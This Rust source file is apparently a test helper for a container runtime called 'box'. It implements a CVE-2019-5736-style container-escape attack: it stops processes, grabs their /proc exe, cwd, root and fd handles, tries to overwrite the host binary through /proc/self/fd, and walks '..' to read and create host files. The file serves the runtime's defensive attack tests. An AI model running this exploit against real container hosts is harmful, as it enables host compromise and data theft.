//! `box-scavenger`: a process inside a container that attacks box's own processes, as
//! CVE-2019-5736 did runc's. Bind-mounted into a container by the attack tests.
//!
//! ```text
//! box-scavenger STOP SECRET NEW
//! ```
//!
//! Until the file STOP exists, it stops every other process it sees (SIGSTOP, so that even a
//! short-lived one stays put), opens its `/proc/PID/{exe,cwd,root,fd/*}`, and lets it go on;
//! one line `attack PID COMM ...` per process, with the errno of each open (0 = it worked).
//! Then, through each fd it got: an `exe` is reopened for writing through `/proc/self/fd/N`
//! and written to (the host binary, were it box's); from every one it walks `..` up to read the
//! host path SECRET and to create the host path NEW. `WROTE`, `READ` and `CREATED` lines say
//! what worked; `tried` lines give the errnos.

use std::collections::HashSet;
use std::ffi::CString;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::process::ExitCode;
use std::time::{Duration, Instant};

fn c(text: &str) -> CString {
    CString::new(text).unwrap_or_default()
}

fn last_errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(-1)
}

/// `open(2)`, with its errno.
fn open(path: &str, flags: libc::c_int) -> Result<OwnedFd, i32> {
    open_at(libc::AT_FDCWD, path, flags)
}

fn open_at(dir: libc::c_int, path: &str, flags: libc::c_int) -> Result<OwnedFd, i32> {
    let path = c(path);
    // SAFETY: a valid NUL-terminated path; the mode is read only with O_CREAT.
    let fd = unsafe { libc::openat(dir, path.as_ptr(), flags | libc::O_CLOEXEC, 0o644) };
    // SAFETY: a new fd that nothing else owns.
    (fd >= 0)
        .then(|| unsafe { OwnedFd::from_raw_fd(fd) })
        .ok_or_else(last_errno)
}

fn code(result: &Result<OwnedFd, i32>) -> i32 {
    result.as_ref().err().copied().unwrap_or(0)
}

/// Enough `..` to climb from any directory to its file system's `/`.
fn up_to_root(path: &str) -> String {
    format!("{}{}", "../".repeat(40), path.trim_start_matches('/'))
}

/// Everything one fd could do to the host: prints a line per success (`WROTE`, `READ`,
/// `CREATED`), and the errnos of the attempts.
fn through(fd: &OwnedFd, origin: &str, secret: &str, created: &str, write: bool) {
    let raw = fd.as_raw_fd();
    let via_proc = format!("/proc/self/fd/{raw}");
    let mut errnos = Vec::new();
    if write {
        match open(&via_proc, libc::O_WRONLY) {
            Ok(w) => {
                // SAFETY: a valid buffer of the given length.
                let n = unsafe { libc::write(w.as_raw_fd(), b"scavenged".as_ptr().cast(), 9) };
                println!("WROTE {origin} ({n} bytes)");
            }
            Err(e) => errnos.push(("reopen-write", e)),
        }
    }
    for (how, result) in [
        ("openat", open_at(raw, &up_to_root(secret), libc::O_RDONLY)),
        (
            "proc-path",
            open(
                &format!("{via_proc}/{}", up_to_root(secret)),
                libc::O_RDONLY,
            ),
        ),
    ] {
        match result {
            Ok(f) => println!(
                "READ {origin} {how}: {:?}",
                std::fs::read_to_string(format!("/proc/self/fd/{}", f.as_raw_fd()))
            ),
            Err(e) => errnos.push((how, e)),
        }
    }
    let create = open_at(raw, &up_to_root(created), libc::O_WRONLY | libc::O_CREAT);
    match create {
        Ok(_) => println!("CREATED {origin}"),
        Err(e) => errnos.push(("create", e)),
    }
    println!("tried {origin}: {errnos:?}");
}

/// Waits until the kernel has really stopped `pid` (`kill` returns before it does): state `T`.
fn wait_stopped(pid: &str) -> bool {
    for _ in 0..100_000 {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        match stat
            .rsplit_once(") ")
            .and_then(|(_, rest)| rest.chars().next())
        {
            Some('T') => return true,
            None | Some('Z' | 'X') => return false,
            Some(_) => std::thread::yield_now(),
        }
    }
    false
}

/// The permitted capabilities of `/proc/PID/status` (readable for any process).
fn permitted_caps(pid: &str) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let hex = status.lines().find_map(|l| l.strip_prefix("CapPrm:"))?;
    u64::from_str_radix(hex.trim(), 16).ok()
}

/// Stops `n`. A process of box's still holds capabilities the container lacks until its
/// security step, which alone keeps the container from opening its /proc files; so a `box`
/// is stopped and let go again until it has dropped them (`caps=container`: only its being
/// non-dumpable protects it then, until it execs), or execs, or the hunt gives up
/// (`caps=box`). Returns whether it is stopped, and which caps it was caught with.
fn stop_when_weakest(n: libc::pid_t, pid: &str, comm: &str, my_caps: u64) -> (bool, &'static str) {
    for _ in 0..if comm == "box" { 100_000 } else { 1 } {
        // SAFETY: kill takes plain integers; the caller continues the process.
        if unsafe { libc::kill(n, libc::SIGSTOP) } != 0 || !wait_stopped(pid) {
            return (false, "gone");
        }
        let now = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        if now.trim() != "box" {
            return (true, "not-box");
        }
        if permitted_caps(pid).is_some_and(|caps| caps & !my_caps == 0) {
            return (true, "container");
        }
        // SAFETY: as above.
        unsafe { libc::kill(n, libc::SIGCONT) };
    }
    // SAFETY: as above; the caller continues it.
    let stopped = unsafe { libc::kill(n, libc::SIGSTOP) } == 0 && wait_stopped(pid);
    (stopped, "box")
}

/// Phase one: stop each process it has not attacked yet, take what its /proc
/// entries give, let it go on. Returns the fds it got, with where they came from.
fn scavenge(stop: &str) -> Vec<(OwnedFd, String, bool)> {
    let me = std::process::id().to_string();
    let my_caps = permitted_caps("self").unwrap_or(0);
    let mut done: HashSet<(String, String)> = HashSet::new();
    let mut held = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(120);
    while !std::path::Path::new(stop).exists() && Instant::now() < deadline {
        let Ok(dir) = std::fs::read_dir("/proc") else {
            continue;
        };
        for pid in dir.filter_map(|e| e.ok()?.file_name().into_string().ok()) {
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
                continue;
            }
            let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            let comm = comm.trim().to_string();
            if !done.insert((pid.clone(), comm.clone())) || held.len() > 2000 {
                continue;
            }
            let n: libc::pid_t = pid.parse().unwrap_or(0);
            let (stopped, caps) = stop_when_weakest(n, &pid, &comm, my_caps);
            // Once it is stopped, its name says what it is while it is attacked.
            let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            let comm = comm.trim();
            let exe = format!("/proc/{pid}/exe");
            let mut line = format!("attack {pid} {comm} stopped={stopped} caps={caps}");
            line += &format!(" exe-write={}", code(&open(&exe, libc::O_WRONLY)));
            for (name, flags) in [
                ("exe", libc::O_PATH),
                ("exe-read", libc::O_RDONLY),
                ("cwd", libc::O_PATH),
                ("root", libc::O_PATH),
                ("fd", libc::O_PATH),
            ] {
                let path = format!("/proc/{pid}/{}", name.trim_end_matches("-read"));
                let targets: Vec<String> = if name == "fd" {
                    match std::fs::read_dir(&path) {
                        Ok(d) => d
                            .filter_map(|e| Some(e.ok()?.path().display().to_string()))
                            .collect(),
                        Err(e) => {
                            line += &format!(" fd={}", e.raw_os_error().unwrap_or(-1));
                            continue;
                        }
                    }
                } else {
                    vec![path]
                };
                for target in targets {
                    let got = open(&target, flags);
                    line += &format!(" {name}={}", code(&got));
                    if let Ok(fd) = got {
                        // Writing is the attack on a binary; another process's stdio is the
                        // caller's pipe or terminal, which the container may write anyway.
                        held.push((fd, format!("{target} of {comm}"), name.starts_with("exe")));
                    }
                }
            }
            if stopped {
                // SAFETY: as above.
                unsafe { libc::kill(n, libc::SIGCONT) };
            }
            println!("{line}");
        }
    }
    held
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    let [_, stop, secret, new] = args.as_slice() else {
        eprintln!("usage: box-scavenger STOP SECRET NEW");
        return ExitCode::from(2);
    };
    let held = scavenge(stop);
    println!("holding {} fds", held.len());
    for (fd, origin, write) in &held {
        through(fd, origin, secret, new, *write);
    }
    ExitCode::SUCCESS
}
